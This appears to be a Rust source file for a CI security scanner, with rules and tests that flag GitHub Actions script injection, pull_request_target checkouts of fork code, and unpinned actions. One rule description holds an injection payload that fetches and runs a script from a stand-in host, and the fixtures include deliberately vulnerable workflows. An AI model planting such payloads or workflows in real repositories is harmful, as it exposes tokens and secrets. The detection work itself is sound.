//! GitHub Actions rules: untrusted event data expanded into scripts, `pull_request_target`
//! workflows that run the pull request's code, and actions not pinned to a commit.

use std::sync::LazyLock;

use regex::Regex;

use crate::findings::{Category, Finding, Severity};
use crate::preflight::diff::{FileDiff, LineKind};
use crate::preflight::rules::{Rule, RuleMeta};

use super::report;

/// Workflow files and action metadata files.
fn is_actions_file(file: &FileDiff) -> bool {
    let path = file.path();
    let name = path.rsplit('/').next().unwrap_or(path);
    let yaml = name.ends_with(".yml") || name.ends_with(".yaml");
    yaml && (path.contains(".github/workflows/") || name == "action.yml" || name == "action.yaml")
}

/// Contexts an outside contributor can set: titles, bodies, branch names, commit messages,
/// author names and e-mails.
static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\$\{\{[^}]*?(?:\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|discussion_comment\.body|pages[.\[][^}\s]*?\.page_name|commits[.\[][^}\s]*?\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests[.\[][^}\s]*?\.head\.ref))|github\.head_ref)\b|(?i:\btojson)\s*\(\s*github\.event\b)[^}]*\}\}",
    )
    .expect("compiles")
});

/// A `run:` or `script:` key, with an inline value or a block scalar indicator.
static SCRIPT_KEY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(\s*)(?:-\s+)?(run|script)\s*:\s*(.*)$").expect("compiles"));
/// `key: value` mapping lines (`env:` entries, `with:` inputs): data, not scripts.
static MAPPING: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\s*(?:-\s+)?[A-Za-z_][\w.-]*\s*:(?:\s|$)").expect("compiles"));

pub(crate) struct ScriptInjection;

static SCRIPT_META: RuleMeta = RuleMeta {
    id: "actions-script-injection",
    title: "Untrusted input expanded in a workflow script",
    category: Category::Pattern,
    severity: Severity::Critical,
    description: "Catches `${{ }}` expressions over contexts an outside contributor controls \
(issue and pull request titles and bodies, comments, review bodies, head branch names, commit \
messages, author names and e-mails, or the whole event through `toJSON(github.event...)`) inside \
a `run:` script or an `actions/github-script` \
`script:`. The runner pastes the value into the script before the shell parses it, so a title \
like `a\"; curl evil.sh | sh; \"` runs with the job's token and secrets.\n\n\
Fix: pass the value through an environment variable and quote it in the script: \
`env: TITLE: ${{ github.event.issue.title }}` and `echo \"$TITLE\"`.\n\n\
`inputs.*` of `workflow_dispatch` are not reported: only users with write access can set them.",
    fails: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"New issue: ${{ github.event.issue.title }}\"",
    passes: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          echo \"New issue: $TITLE\"",
    example_path: ".github/workflows/greet.yml",
};

impl Rule for ScriptInjection {
    fn meta(&self) -> &RuleMeta {
        &SCRIPT_META
    }

    fn keywords(&self) -> &[&'static str] {
        &["${{"]
    }

    fn check(&self, file: &FileDiff, out: &mut Vec<Finding>) {
        if !is_actions_file(file) {
            return;
        }
        for hunk in &file.hunks {
            // Indentation of the `run:` key whose block scalar we are inside, if known.
            let mut block: Option<usize> = None;
            // Whether the hunk began before any line told us where we are.
            let mut known = false;
            for line in &hunk.lines {
                if line.kind == LineKind::Removed {
                    continue;
                }
                let text = line.text.as_str();
                let indent = text.len() - text.trim_start().len();
                let blank = text.trim().is_empty();
                if let Some(key_indent) = block {
                    if blank || indent > key_indent {
                        if line.kind == LineKind::Added && UNTRUSTED.is_match(text) {
                            flag(file, line.new_line, text, out);
                        }
                        continue;
                    }
                    block = None;
                }
                if let Some(c) = SCRIPT_KEY.captures(text) {
                    known = true;
                    let key_indent = c.get(1).map_or(0, |m| m.as_str().len());
                    let value = c.get(3).map_or("", |m| m.as_str()).trim();
                    if value.starts_with('|') || value.starts_with('>') || value.is_empty() {
                        block = Some(key_indent);
                    } else if line.kind == LineKind::Added && UNTRUSTED.is_match(value) {
                        flag(file, line.new_line, text, out);
                    }
                    continue;
                }
                if text.trim_start().starts_with('#') {
                    // A YAML comment outside a script: prose, even when it quotes a script.
                    continue;
                }
                if !blank && MAPPING.is_match(text) {
                    known = true;
                    continue;
                }
                // A line that is neither a key nor inside a known block: the hunk started in the
                // middle of a script whose `run:` line is outside the context we were given.
                if !known && line.kind == LineKind::Added && UNTRUSTED.is_match(text) {
                    flag(file, line.new_line, text, out);
                }
            }
        }
    }
}

fn flag(file: &FileDiff, line: Option<u32>, text: &str, out: &mut Vec<Finding>) {
    if let Some(n) = line {
        report(
            &SCRIPT_META,
            file,
            n,
            text,
            "untrusted event data is expanded into a script: pass it through `env:` and quote it"
                .into(),
            out,
        );
    }
}

pub(crate) struct PrTargetCheckout;

static PR_TARGET_META: RuleMeta = RuleMeta {
    id: "actions-pr-target-checkout",
    title: "pull_request_target checks out the pull request",
    category: Category::Pattern,
    severity: Severity::Critical,
    description: "Catches workflows triggered by `pull_request_target` that check out the pull \
request's head (`ref: ${{ github.event.pull_request.head.sha }}`, `head.ref`, `github.head_ref`, \
`refs/pull/N/merge`). `pull_request_target` runs with the base repository's secrets and a \
write token; building or running code from a fork there hands both to the fork's author.\n\n\
Fix: use the `pull_request` trigger for anything that runs the contributor's code; keep \
`pull_request_target` for jobs that only label or comment, and never check out the head in them.\n\n\
The rule sees the trigger only when it is in the diff (a new workflow, or a change near the \
`on:` block).",
    fails: "on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test",
    passes: "on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test",
    example_path: ".github/workflows/test.yml",
};

static PR_TARGET: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bpull_request_target\b").expect("compiles"));
static HEAD_REF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*(?:-\s+)?ref\s*:\s*.*(?:github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs/pull/.*/(?:merge|head))")
        .expect("compiles")
});

impl Rule for PrTargetCheckout {
    fn meta(&self) -> &RuleMeta {
        &PR_TARGET_META
    }

    fn keywords(&self) -> &[&'static str] {
        &["pull_request_target", "ref:"]
    }

    fn check(&self, file: &FileDiff, out: &mut Vec<Finding>) {
        if !is_actions_file(file) {
            return;
        }
        let lines = || {
            file.hunks
                .iter()
                .flat_map(|h| h.lines.iter())
                .filter(|l| l.kind != LineKind::Removed)
        };
        let trigger =
            lines().find(|l| PR_TARGET.is_match(&l.text) && !l.text.trim_start().starts_with('#'));
        let Some(trigger) = trigger else { return };
        let checkouts: Vec<_> = lines().filter(|l| HEAD_REF.is_match(&l.text)).collect();
        if checkouts.is_empty() {
            return;
        }
        let added_checkouts: Vec<_> = checkouts
            .iter()
            .filter(|l| l.kind == LineKind::Added)
            .collect();
        let message = "a pull_request_target workflow checks out the pull request's code: it runs with secrets and a write token";
        if !added_checkouts.is_empty() {
            for l in added_checkouts {
                if let Some(n) = l.new_line {
                    report(&PR_TARGET_META, file, n, &l.text, message.into(), out);
                }
            }
        } else if let (LineKind::Added, Some(n)) = (trigger.kind, trigger.new_line) {
            report(&PR_TARGET_META, file, n, &trigger.text, message.into(), out);
        }
    }
}

pub(crate) struct UnpinnedAction;

static UNPINNED_META: RuleMeta = RuleMeta {
    id: "actions-unpinned-action",
    title: "Third-party action not pinned to a commit",
    category: Category::Pattern,
    severity: Severity::Advisory,
    description: "Catches `uses: owner/repo@ref` where the ref is a tag or branch rather than a \
full 40-character commit SHA. Tags and branches can be moved: whoever controls the action's \
repository can change the code your workflow runs, with its token and secrets.\n\n\
Fix: pin to the commit and keep the tag in a comment, \
`uses: owner/repo@<40-hex-sha> # v1.2.3`; let Dependabot or Renovate update the pins. Local \
actions (`./path`) and `docker://` images with a `@sha256:` digest are not reported.",
    fails: "    steps:\n      - uses: some-org/deploy-action@v2",
    passes: "    steps:\n      - uses: some-org/deploy-action@0123456789abcdef0123456789abcdef01234567 # v2.1.0",
    example_path: ".github/workflows/deploy.yml",
};

static USES: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"^\s*(?:-\s+)?uses\s*:\s*['"]?([^'"\s#]+)"#).expect("compiles"));

impl Rule for UnpinnedAction {
    fn meta(&self) -> &RuleMeta {
        &UNPINNED_META
    }

    fn keywords(&self) -> &[&'static str] {
        &["uses"]
    }

    fn check(&self, file: &FileDiff, out: &mut Vec<Finding>) {
        if !is_actions_file(file) {
            return;
        }
        for (n, text) in file.added_lines() {
            let Some(target) = USES
                .captures(text)
                .and_then(|c| c.get(1))
                .map(|m| m.as_str())
            else {
                continue;
            };
            if target.starts_with("./")
                || target.starts_with("docker://") && target.contains("@sha256:")
            {
                continue;
            }
            let pinned = target
                .rsplit_once('@')
                .is_some_and(|(_, r)| r.len() == 40 && r.bytes().all(|b| b.is_ascii_hexdigit()));
            if !pinned {
                report(
                    &UNPINNED_META,
                    file,
                    n,
                    text,
                    format!("`{target}` is not pinned to a full commit SHA"),
                    out,
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::preflight::diff::{ChangeKind, DiffLine, FileDiff, Hunk};
    use crate::preflight::rules::patterns::test_support::run;

    #[test]
    fn inline_and_block_scripts_are_checked() {
        let wf = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n      - name: x\n        run: |\n          git switch ${{ github.head_ref }}\n          echo done\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log('${{ github.event.comment.body }}')";
        let found = run(&ScriptInjection, ".github/workflows/a.yml", wf);
        let lines: Vec<u32> = found.iter().map(|f| f.line).collect();
        assert_eq!(lines, vec![5, 8, 13]);
    }

    #[test]
    fn env_indirection_and_trusted_contexts_pass() {
        let wf = "jobs:\n  a:\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        with:\n          title: ${{ github.event.issue.title }}\n        run: |\n          echo \"$TITLE\" ${{ github.sha }} ${{ env.X }}\n          echo ${{ inputs.name }}";
        assert!(run(&ScriptInjection, ".github/workflows/a.yml", wf).is_empty());
        assert!(
            run(
                &ScriptInjection,
                "docs/a.yml",
                "run: echo ${{ github.event.issue.title }}"
            )
            .is_empty()
        );
    }

    #[test]
    fn a_hunk_starting_inside_a_script_is_still_judged() {
        let lines = vec![
            DiffLine {
                kind: LineKind::Context,
                new_line: Some(20),
                old_line: Some(20),
                text: "          echo start".into(),
            },
            DiffLine {
                kind: LineKind::Added,
                new_line: Some(21),
                old_line: None,
                text: "          echo \"${{ github.event.issue.body }}\"".into(),
            },
        ];
        let file = FileDiff {
            old_path: Some(".github/workflows/a.yml".into()),
            new_path: Some(".github/workflows/a.yml".into()),
            kind: ChangeKind::Modified,
            binary: false,
            mode_change: None,
            hunks: vec![Hunk {
                old_start: 20,
                old_len: 1,
                new_start: 20,
                new_len: 2,
                lines,
            }],
        };
        let mut out = Vec::new();
        ScriptInjection.check(&file, &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].line, 21);
    }

    #[test]
    fn pr_target_checkout_of_head() {
        let wf = "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.number }}/merge";
        let found = run(&PrTargetCheckout, ".github/workflows/a.yml", wf);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line, 8);
        let safe = "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4";
        assert!(run(&PrTargetCheckout, ".github/workflows/a.yml", safe).is_empty());
    }

    #[test]
    fn unpinned_actions() {
        let wf = "steps:\n  - uses: actions/checkout@v4\n  - uses: ./local/action\n  - uses: docker://alpine@sha256:0123\n  - uses: a/b@0123456789abcdef0123456789abcdef01234567";
        let found = run(&UnpinnedAction, ".github/workflows/a.yml", wf);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line, 2);
    }
}
